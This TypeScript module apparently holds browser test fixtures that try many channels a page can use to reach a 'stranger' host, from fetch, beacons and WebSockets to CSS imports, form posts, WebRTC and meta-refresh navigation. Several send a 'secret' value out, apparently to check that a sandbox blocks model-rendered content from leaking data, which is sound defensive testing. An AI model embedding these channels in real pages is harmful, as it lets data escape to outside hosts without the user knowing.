/** Where a try goes: the stranger's addresses, and a name that only the resolver knows. */
export interface Target {
  url: string;
  udp: string;
  bare: string;
  name: string;
}

/**
 * Ways by which a page can reach another machine, each run in the page by Playwright, so each is whole in itself. A try
 * settles once the browser has carried it out or refused it. Its name is the path that it asks the stranger for.
 */
export const TRIES: Record<string, (target: Target) => unknown> = {
  fetch: ({ url }) => fetch(`${url}/fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }),
  'fetch-keepalive': ({ url }) => fetch(`${url}/fetch-keepalive`, { keepalive: true, mode: 'no-cors' }),
  xhr: ({ url }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open('GET', `${url}/xhr`);
      request.send();
    }),
  websocket: ({ url }) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`${url.replace('http', 'ws')}/websocket`);
      socket.onclose = resolve;
      socket.onerror = resolve;
    }),
  eventsource: ({ url }) =>
    new Promise((resolve) => {
      const source = new EventSource(`${url}/eventsource`);
      source.onerror = resolve;
      source.onopen = resolve;
    }),
  beacon: ({ url }) => navigator.sendBeacon(`${url}/beacon`, 'secret'),
  image: ({ url }) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = resolve;
      image.src = `${url}/image`;
    }),
  media: ({ url }) =>
    new Promise((resolve) => {
      const audio = new Audio();
      audio.onerror = resolve;
      audio.src = `${url}/media`;
    }),
  font: ({ url }) => new FontFace('stranger', `url(${url}/font)`).load(),
  'css-url': async ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url(${url}/css-url) }`);
    document.adoptedStyleSheets.push(sheet);
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  },
  'style-element': async ({ url }) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${url}/style-element);`;
    const settled = new Promise((resolve) => {
      style.onload = resolve;
      style.onerror = resolve;
      document.addEventListener('securitypolicyviolation', resolve, { once: true });
    });
    document.head.append(style);
    await settled;
  },
  stylesheet: ({ url }) =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${url}/stylesheet` });
      link.onload = resolve;
      link.onerror = resolve;
      document.head.append(link);
    }),
  script: ({ url }) =>
    new Promise((resolve) => {
      const script = Object.assign(document.createElement('script'), { src: `${url}/script` });
      script.onload = resolve;
      script.onerror = resolve;
      document.head.append(script);
    }),
  import: ({ url }) => import(`${url}/import`),
  frame: ({ url }) =>
    new Promise((resolve) => {
      const frame = Object.assign(document.createElement('iframe'), { src: `${url}/frame` });
      frame.onload = resolve;
      document.addEventListener('securitypolicyviolation', resolve, { once: true });
      document.body.append(frame);
    }),
  object: ({ url }) =>
    new Promise((resolve) => {
      const object = Object.assign(document.createElement('object'), { data: `${url}/object`, type: 'image/png' });
      object.onload = resolve;
      object.onerror = resolve;
      document.body.append(object);
    }),
  form: ({ url }) =>
    new Promise((resolve) => {
      const frame = Object.assign(document.createElement('iframe'), { name: 'form-target' });
      const form = Object.assign(document.createElement('form'), {
        action: `${url}/form`,
        method: 'post',
        target: 'form-target',
      });
      document.body.append(frame, form);
      frame.onload = resolve;
      document.addEventListener('securitypolicyviolation', resolve, { once: true });
      form.submit();
    }),
  ping: ({ url }) => {
    const link = document.createElement('a');
    link.href = '#';
    link.ping = `${url}/ping`;
    link.click();
  },
  prefetch: ({ url }) =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${url}/prefetch` });
      link.onload = resolve;
      link.onerror = resolve;
      document.head.append(link);
    }),
  preload: ({ url }) =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement('link'), {
        rel: 'preload',
        as: 'image',
        href: `${url}/preload`,
      });
      link.onload = resolve;
      link.onerror = resolve;
      document.head.append(link);
    }),
  preconnect: ({ bare }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: bare }));
  },
  /** Of which the stranger hears nothing: the browser's own log tells of it. */
  'dns-prefetch': ({ name }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${name}` }));
  },
  worker: ({ url }) =>
    new Promise((resolve) => {
      const script = `fetch('${url}/worker', { mode: 'no-cors' }).then(() => postMessage('reached'), () => postMessage('refused'))`;
      const worker = new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
      worker.onmessage = resolve;
      worker.onerror = resolve;
    }),
  webrtc: async ({ udp }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
  },
};

/** Ways to take the window, or a new one, to another machine with what was said in the address. */
export const WAYS_OUT: Record<string, (target: Target) => unknown> = {
  "the model's link": ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: `${url}/link?secret`, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  "the model's link in this window": ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: `${url}/link?secret` });
    document.body.append(link);
    link.click();
  },
  'a script that sets the address': ({ url }) => {
    window.location.href = `${url}/location?secret`;
  },
  'a meta refresh': ({ url }) => {
    const meta = Object.assign(document.createElement('meta'), {
      httpEquiv: 'refresh',
      content: `0;url=${url}/refresh?secret`,
    });
    document.head.append(meta);
  },
};
